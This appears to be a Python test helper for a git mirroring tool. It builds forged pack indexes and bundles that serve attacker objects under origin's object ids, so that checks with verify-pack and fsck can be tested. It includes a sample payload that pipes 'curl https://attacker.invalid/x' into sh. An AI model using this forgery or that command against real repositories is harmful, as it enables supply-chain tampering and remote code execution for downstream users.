"""Forged packs, indexes and bundles, built the way an attacker would, with git's own tools.

The attack this reproduces: a pack that holds an evil blob and an evil tree, and an
`.idx` edited so that those two entries carry the object ids of origin's originals.
Every checksum a downloader can compare still matches (the pack's trailer, the idx's
own trailer, the sha256 and size of both files as published), yet `git cat-file`
of origin's blob id now returns the attacker's bytes. Only rehashing the objects
shows the lie: `git verify-pack` and `git fsck` do.

Everything here works on sha1 repositories with version 2 pack indexes (the sample
origin's format).
"""

from __future__ import annotations

import hashlib
import os
import shutil
import struct
import subprocess
from dataclasses import dataclass, field
from pathlib import Path

IDX_MAGIC = b"\377tOc"
HASH_LEN = 20  # sha1
EVIL_CONTENT = b"#!/bin/sh\n# pwned: this is not origin's README\ncurl -s https://attacker.invalid/x | sh\n"
EVIL_SCRIPT = b"#!/bin/sh\necho pwned\n"


def git(cwd: Path, *args: str, input: bytes | None = None, check: bool = True) -> subprocess.CompletedProcess[bytes]:
    """git in ``cwd`` without the user's config; stdout/stderr as bytes."""
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_TERMINAL_PROMPT": "0"}
    proc = subprocess.run(["git", *args], cwd=cwd, env=env, input=input, capture_output=True)
    if check and proc.returncode != 0:
        raise RuntimeError(f"git {' '.join(args)} failed in {cwd}:\n{proc.stderr.decode(errors='replace')}")
    return proc


def out(cwd: Path, *args: str, input: bytes | None = None) -> str:
    return git(cwd, *args, input=input).stdout.decode().strip()


# ---------------------------------------------------------------------------
# Pack index (version 2) surgery


@dataclass
class IdxEntry:
    oid: bytes
    crc: int
    offset: int


def parse_idx(data: bytes) -> tuple[list[IdxEntry], bytes]:
    """The entries of a v2 `.idx` (in its oid order) and the pack checksum it records."""
    if data[:4] != IDX_MAGIC or struct.unpack(">I", data[4:8])[0] != 2:
        raise ValueError("not a version 2 pack index")
    count = struct.unpack(">I", data[8 + 255 * 4: 8 + 256 * 4])[0]
    pos = 8 + 256 * 4
    oids = [data[pos + i * HASH_LEN: pos + (i + 1) * HASH_LEN] for i in range(count)]
    pos += count * HASH_LEN
    crcs = struct.unpack(f">{count}I", data[pos: pos + 4 * count])
    pos += 4 * count
    small = struct.unpack(f">{count}I", data[pos: pos + 4 * count])
    pos += 4 * count
    large_count = sum(1 for o in small if o & 0x80000000)
    large = struct.unpack(f">{large_count}Q", data[pos: pos + 8 * large_count])
    pos += 8 * large_count
    pack_checksum = data[pos: pos + HASH_LEN]
    if pos + 2 * HASH_LEN != len(data):
        raise ValueError("unexpected pack index length")
    entries = [
        IdxEntry(oid, crc, large[o & 0x7FFFFFFF] if o & 0x80000000 else o)
        for oid, crc, o in zip(oids, crcs, small, strict=True)
    ]
    return entries, pack_checksum


def render_idx(entries: list[IdxEntry], pack_checksum: bytes) -> bytes:
    """A v2 `.idx` for ``entries``: sorted oid table, fan-out, CRC and offset tables, trailer."""
    entries = sorted(entries, key=lambda e: e.oid)
    fanout = [0] * 256
    for e in entries:
        fanout[e.oid[0]] += 1
    running = 0
    for i in range(256):
        running += fanout[i]
        fanout[i] = running
    small: list[int] = []
    large: list[int] = []
    for e in entries:
        if e.offset >= 0x80000000:
            small.append(0x80000000 | len(large))
            large.append(e.offset)
        else:
            small.append(e.offset)
    body = b"".join([
        IDX_MAGIC, struct.pack(">I", 2), struct.pack(">256I", *fanout),
        *(e.oid for e in entries),
        struct.pack(f">{len(entries)}I", *(e.crc for e in entries)),
        struct.pack(f">{len(entries)}I", *small),
        struct.pack(f">{len(large)}Q", *large),
        pack_checksum,
    ])
    return body + hashlib.sha1(body).digest()


def rename_in_idx(data: bytes, renames: dict[str, str]) -> bytes:
    """Give the entries of ``renames``' keys (hex oids) the ids of its values; the pack checksum stays."""
    entries, pack_checksum = parse_idx(data)
    wanted = {bytes.fromhex(k): bytes.fromhex(v) for k, v in renames.items()}
    present = {e.oid for e in entries}
    missing = set(wanted) - present
    if missing:
        raise ValueError(f"not in the index: {sorted(m.hex() for m in missing)}")
    clash = set(wanted.values()) & (present - set(wanted))
    if clash:
        raise ValueError(f"the new ids are already in the index: {sorted(c.hex() for c in clash)}")
    for e in entries:
        e.oid = wanted.get(e.oid, e.oid)
    return render_idx(entries, pack_checksum)


# ---------------------------------------------------------------------------
# Packs and bundles


@dataclass
class Pack:
    data: bytes
    idx: bytes  # as git index-pack wrote it

    @property
    def checksum(self) -> str:
        return self.data[-HASH_LEN:].hex()


def scratch_repo(origin: Path, dest: Path) -> Path:
    """A bare repository that can read ``origin``'s objects (alternates) and takes new ones."""
    dest.mkdir(parents=True)
    git(dest, "init", "-q", "--bare")
    (dest / "objects" / "info" / "alternates").write_text(f"{(origin / 'objects').resolve()}\n")
    return dest


def write_pack(repo: Path, oids: list[str], workdir: Path) -> Pack:
    """`git pack-objects` of exactly ``oids`` (offset deltas only), then `git index-pack`."""
    workdir.mkdir(parents=True, exist_ok=True)
    data = git(repo, "pack-objects", "--stdout", "--delta-base-offset", "-q",
               input="".join(f"{o}\n" for o in oids).encode()).stdout
    pack = workdir / "p.pack"
    pack.write_bytes(data)
    git(repo, "index-pack", "-o", str(workdir / "p.idx"), str(pack))
    idx = (workdir / "p.idx").read_bytes()
    pack.unlink()
    (workdir / "p.idx").unlink()
    return Pack(data, idx)


def tip_revs(repo: Path) -> list[str]:
    """What mirrorci publish bundles: every branch and tag, plus HEAD."""
    names = out(repo, "for-each-ref", "--format=%(refname)", "refs/heads", "refs/tags").split()
    return names + ["HEAD"]


def legit_bundle(origin: Path, dest: Path) -> bytes:
    """The bundle `mirrorci publish` would make of ``origin``."""
    git(origin, "bundle", "create", "-q", str(dest), "--stdin", input="\n".join(tip_revs(origin)).encode() + b"\n")
    return dest.read_bytes()


def split_bundle(data: bytes) -> tuple[bytes, bytes]:
    """(header up to and including its empty line, pack)."""
    end = data.index(b"\n\n") + 2
    return data[:end], data[end:]


def header_lines(header: bytes) -> list[bytes]:
    """Ref and prerequisite lines of a header (no signature, no capabilities, no empty line)."""
    return [line for line in header.split(b"\n")[1:] if line and not line.startswith(b"@")]


def make_header(lines: list[bytes], signature: bytes = b"# v2 git bundle\n") -> bytes:
    return signature + b"".join(line + b"\n" for line in lines) + b"\n"


def all_objects(repo: Path, *revs: str) -> list[str]:
    """Every object reachable from ``revs`` (default: the branches, tags and HEAD)."""
    listing = out(repo, "rev-list", "--objects", *(revs or tip_revs(repo)))
    return [line.split(" ", 1)[0] for line in listing.splitlines() if line]


def index_of(repo: Path, pack: bytes, workdir: Path) -> bytes:
    """The honest `.idx` of ``pack``."""
    workdir.mkdir(parents=True, exist_ok=True)
    path = workdir / "i.pack"
    path.write_bytes(pack)
    git(repo, "index-pack", "-o", str(workdir / "i.idx"), str(path))
    idx = (workdir / "i.idx").read_bytes()
    shutil.rmtree(workdir)
    return idx


# ---------------------------------------------------------------------------
# The forged-index attack


@dataclass
class Forgery:
    """A bundle whose pack + forged idx serve evil objects under origin's ids."""

    header: bytes
    pack: Pack
    forged_idx: bytes
    renames: dict[str, str]  # real id of the evil object -> origin's id it is served under
    evil: dict[str, bytes] = field(default_factory=dict)  # origin's id -> the bytes it now shows
    evil_path: str = "evil.sh"

    @property
    def bundle(self) -> bytes:
        return self.header + self.pack.data


def forge_head_tree(origin: Path, workdir: Path, tree_path: str = "src", blob_name: str = "app.py") -> Forgery:
    """Swap one blob and one tree of origin's HEAD for evil ones, keeping their ids.

    The evil tree is HEAD's ``tree_path`` tree plus a tracked `evil.sh`; its
    ``blob_name`` entry keeps origin's blob id, which now resolves to the evil blob.
    A subtree is the dangerous case: git hashes the commits and the root tree it
    parses, but reads subtrees and blobs during a checkout without rehashing them.
    """
    scratch = scratch_repo(origin, workdir / "scratch.git")
    spec = f"HEAD:{tree_path}" if tree_path else "HEAD^{tree}"
    tree = out(origin, "rev-parse", spec)
    blob = out(origin, "rev-parse", f"HEAD:{tree_path + '/' if tree_path else ''}{blob_name}")
    evil_blob = out(scratch, "hash-object", "-w", "--stdin", input=EVIL_CONTENT)
    script = out(scratch, "hash-object", "-w", "--stdin", input=EVIL_SCRIPT)
    evil_tree_text = out(origin, "ls-tree", spec) + f"\n100755 blob {script}\tevil.sh\n"
    evil_tree = out(scratch, "mktree", input=evil_tree_text.encode())
    objects = [o for o in all_objects(origin) if o not in (tree, blob)] + [evil_blob, evil_tree, script]
    header, _ = split_bundle(legit_bundle(origin, workdir / "legit.bundle"))
    pack = write_pack(scratch, objects, workdir / "pack")
    renames = {evil_blob: blob, evil_tree: tree}
    forged = rename_in_idx(pack.idx, renames)
    evil = {blob: EVIL_CONTENT, tree: git(scratch, "cat-file", "tree", evil_tree).stdout}
    return Forgery(header, pack, forged, renames, evil, f"{tree_path}/evil.sh" if tree_path else "evil.sh")


def forge_head_commit(origin: Path, workdir: Path) -> Forgery:
    """Swap origin's HEAD commit for one with an evil tree (an honest object of its own), keeping its id."""
    scratch = scratch_repo(origin, workdir / "scratch.git")
    head = out(origin, "rev-parse", "HEAD")
    script = out(scratch, "hash-object", "-w", "--stdin", input=EVIL_SCRIPT)
    listing = out(origin, "ls-tree", "HEAD^{tree}")
    evil_tree = out(scratch, "mktree", input=(listing + f"\n100755 blob {script}\tevil.sh\n").encode())
    commit_text = git(origin, "cat-file", "commit", head).stdout
    tree_line_end = commit_text.index(b"\n")
    evil_commit_text = b"tree " + evil_tree.encode() + commit_text[tree_line_end:]
    evil_commit = out(scratch, "hash-object", "-w", "-t", "commit", "--stdin", input=evil_commit_text)
    objects = [o for o in all_objects(origin) if o != head] + [evil_commit, evil_tree, script]
    header, _ = split_bundle(legit_bundle(origin, workdir / "legit.bundle"))
    pack = write_pack(scratch, objects, workdir / "pack")
    renames = {evil_commit: head}
    return Forgery(header, pack, rename_in_idx(pack.idx, renames), renames, {head: evil_commit_text})


def forge_old_blob(origin: Path, workdir: Path, path: str = "obsolete.txt") -> Forgery:
    """Swap a blob only an old commit holds (not in HEAD's tree): what `--verify full` must still catch."""
    scratch = scratch_repo(origin, workdir / "scratch.git")
    commit = out(origin, "log", "-1", "--format=%H", "--diff-filter=A", "HEAD", "--", path)
    blob = out(origin, "rev-parse", f"{commit}:{path}")
    evil_blob = out(scratch, "hash-object", "-w", "--stdin", input=EVIL_CONTENT)
    objects = [o for o in all_objects(origin) if o != blob] + [evil_blob]
    header, _ = split_bundle(legit_bundle(origin, workdir / "legit.bundle"))
    pack = write_pack(scratch, objects, workdir / "pack")
    renames = {evil_blob: blob}
    return Forgery(header, pack, rename_in_idx(pack.idx, renames), renames, {blob: EVIL_CONTENT})


def tips_only(origin: Path, workdir: Path) -> tuple[bytes, bytes]:
    """A bundle with origin's header whose pack holds only the tips: tags, tip commits, their trees and blobs.

    No ancestor commit, no prerequisite: every ref resolves, the work tree can be
    written, but the history is cut (`git log` fails, fsck finds broken links).
    Returns the bundle and the honest `.idx` of its pack.
    """
    scratch = scratch_repo(origin, workdir / "scratch.git")
    objects = all_objects(origin, "--no-walk", *tip_revs(origin))
    header, _ = split_bundle(legit_bundle(origin, workdir / "legit.bundle"))
    pack = write_pack(scratch, objects, workdir / "pack")
    return header + pack.data, pack.idx


def with_extra_commit(origin: Path, workdir: Path) -> tuple[bytes, bytes, str]:
    """A bundle with origin's header whose pack also holds a commit origin never had (on top of HEAD).

    Returns the bundle, the honest `.idx` of its pack, and the extra commit's id.
    """
    scratch = scratch_repo(origin, workdir / "scratch.git")
    blob = out(scratch, "hash-object", "-w", "--stdin", input=EVIL_SCRIPT)
    listing = out(origin, "ls-tree", "HEAD^{tree}") + f"\n100755 blob {blob}\tevil.sh\n"
    tree = out(scratch, "mktree", input=listing.encode())
    who = "Mallory <m@attacker.invalid> 1700000000 +0000"
    commit_text = (f"tree {tree}\nparent {out(origin, 'rev-parse', 'HEAD')}\n"
                   f"author {who}\ncommitter {who}\n\nNot on origin\n").encode()
    commit = out(scratch, "hash-object", "-w", "-t", "commit", "--stdin", input=commit_text)
    objects = all_objects(origin) + [commit, tree, blob]
    header, _ = split_bundle(legit_bundle(origin, workdir / "legit.bundle"))
    pack = write_pack(scratch, objects, workdir / "pack")
    return header + pack.data, pack.idx, commit


def install_pack(repo: Path, pack: bytes, idx: bytes) -> Path:
    """Put a pack and an index (forged or not) into ``repo``'s object store under the pack's name."""
    git_dir = Path(out(repo, "rev-parse", "--absolute-git-dir"))
    pack_dir = git_dir / "objects" / "pack"
    pack_dir.mkdir(parents=True, exist_ok=True)
    name = f"pack-{pack[-HASH_LEN:].hex()}"
    (pack_dir / f"{name}.pack").write_bytes(pack)
    (pack_dir / f"{name}.idx").write_bytes(idx)
    return pack_dir / f"{name}.pack"


def assert_forgery_works(forgery: Forgery, workdir: Path) -> None:
    """Prove the forgery is real before blaming mirrorci: git serves the evil bytes, only rehashing sees it.

    - every checksum a downloader can compare matches (idx trailer, pack checksum in the idx);
    - in a repository holding the pack and the forged idx, `git cat-file` of origin's ids shows the evil bytes;
    - `git verify-pack` fails and `git fsck` names every swapped id as corrupt (a hash mismatch).
    """
    entries, recorded = parse_idx(forgery.forged_idx)
    assert recorded == forgery.pack.data[-HASH_LEN:], "the forged idx must name the real pack"
    assert hashlib.sha1(forgery.forged_idx[:-HASH_LEN]).digest() == forgery.forged_idx[-HASH_LEN:]
    ids = {e.oid.hex() for e in entries}
    assert set(forgery.renames.values()) <= ids and not set(forgery.renames) & ids

    repo = workdir / "forgery-check.git"
    git(workdir, "init", "-q", "--bare", str(repo))
    pack_path = install_pack(repo, forgery.pack.data, forgery.forged_idx)
    for oid, evil in forgery.evil.items():
        kind = out(repo, "cat-file", "-t", oid)
        shown = git(repo, "cat-file", kind, oid).stdout
        assert shown == evil, f"git does not serve the evil {kind} under {oid}"
    verify = git(repo, "verify-pack", str(pack_path.with_suffix(".idx")), check=False)
    assert verify.returncode != 0, "git verify-pack accepts the forged index"
    fsck = git(repo, "fsck", "--full", "--no-dangling", check=False)
    report = (fsck.stdout + fsck.stderr).decode(errors="replace")
    # git 2.39 says "packed <id> from <pack> is corrupt" for a pack, newer gits "hash mismatch".
    assert fsck.returncode != 0 and all(oid in report for oid in forgery.renames.values()), report
    assert "hash mismatch" in report or "is corrupt" in report, report
    shutil.rmtree(repo)
